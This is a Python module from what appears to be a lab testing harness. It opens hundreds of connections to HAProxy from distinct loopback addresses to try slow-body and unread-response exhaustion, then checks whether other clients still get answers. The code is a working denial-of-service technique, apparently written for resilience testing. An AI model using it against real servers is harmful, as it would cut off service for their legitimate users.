"""Clients that keep the connections of HAProxy to a server: each costs them one of their own and a few bytes."""

import socket
import time
from collections import Counter
from contextlib import ExitStack

from lab.attack.connections import READ
from lab.attack.target import AttackResult, Target

CLIENTS = 300  # each with an address of its own
LONG = 66_000  # bytes: more than HAProxy keeps of a body
OTHERS = 5
PAUSE = 1.0  # the attackers' own, until what they sent has arrived


def _addresses() -> list[str]:
    return [f"127.0.{1 + number // 250}.{1 + number % 250}" for number in range(CLIENTS)]


def _others(front: Target) -> Counter[str]:
    """What those are answered who did nothing."""
    time.sleep(PAUSE)
    return Counter(front.outcome(READ, f"127.0.9.{1 + number}") for number in range(OTHERS))


def attack_bodies_that_stop(target: Target) -> AttackResult:
    """Sends a third of a body on each of many connections, and nothing more."""
    head = b"POST /api/v1/public/payments/PAY-20250131-7K2M9X/process HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\n\r\n"
    return _tried(target.front, f"{CLIENTS} bodies that stop", head + b"x" * LONG)


def attack_long_answers_that_nobody_reads(target: Target) -> AttackResult:
    """Asks for more than HAProxy keeps on each of many connections, and reads nothing."""
    asked = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n"
    return _tried(target.front, f"{CLIENTS} long answers that nobody reads", asked)


def _tried(front: Target, what: str, sent: bytes) -> AttackResult:
    with ExitStack() as stack:
        opened = list[socket.socket]()
        for address in _addresses():
            client = stack.enter_context(front.connect(source=address, keeps=4096))
            client.settimeout(1)
            opened.append(client)
            try:
                client.sendall(sent)
            except OSError:  # refused already, or not read
                continue
        told = _others(front)
    happened = ", ".join(f"{count} x {status}" for status, count in told.items())
    return AttackResult(what, f"others through HAProxy: {happened}", set(told) != {"200"})
